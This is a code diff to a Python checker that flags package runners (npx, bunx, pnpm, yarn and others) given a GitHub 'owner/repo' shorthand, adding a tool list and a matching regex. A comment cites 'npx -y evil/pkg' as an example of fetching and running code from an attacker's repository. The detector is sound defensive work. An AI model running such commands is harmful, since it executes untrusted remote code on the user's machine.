@@ -533,6 +533,14 @@ _REMOTE_SPEC = re.compile(r"(?:^|[=@]\s*)(?:git\+)?(?:https?|git|ssh|ftp|s3|file
                           r"^(?:github|gitlab|bitbucket|gist):[\w.-]", re.IGNORECASE)
 
 
+#: Fetchers that read ``owner/repo`` as a GitHub repository (npm's shorthand: ``npx -y evil/pkg`` runs
+#: github.com/evil/pkg; round 9 of issue 18), and that shorthand: one slash, no scope ``@``, no leading ``.`` or
+#: ``/``, not a script file.
+_NPM_FAMILY = frozenset({"npx", "bunx", "pnpx", "npm", "pnpm", "yarn", "bun"})
+_GITHUB_SHORTHAND = re.compile(r"(?![.@/])[A-Za-z0-9][\w.-]{0,100}/[\w.-]{1,100}(?:#[\w./-]{1,100})?"
+                               r"(?<!\.js)(?<!\.mjs)(?<!\.cjs)(?<!\.ts)(?<!\.json)")
+
+
 def _flat_tokens(argv: list[str]) -> list[str]:
     """``argv`` with every argument that holds blanks split as a shell would (``sh -c "pip install ..."``)."""
     flat: list[str] = []
@@ -603,7 +611,7 @@ def remote_package(argv: list[str]) -> Optional[tuple[str, str]]:
             if mode == "run" and tok in _RUN_WORDS | _INSTALL_WORDS:  # uv tool run, uv tool install
                 mode = "install" if tok in _INSTALL_WORDS else "run"
                 continue
-            if _REMOTE_SPEC.search(tok):
+            if _REMOTE_SPEC.search(tok) or (b in _NPM_FAMILY and _GITHUB_SHORTHAND.fullmatch(tok)):
                 return b, tok
             if mode == "run":  # the package's own arguments follow
                 break
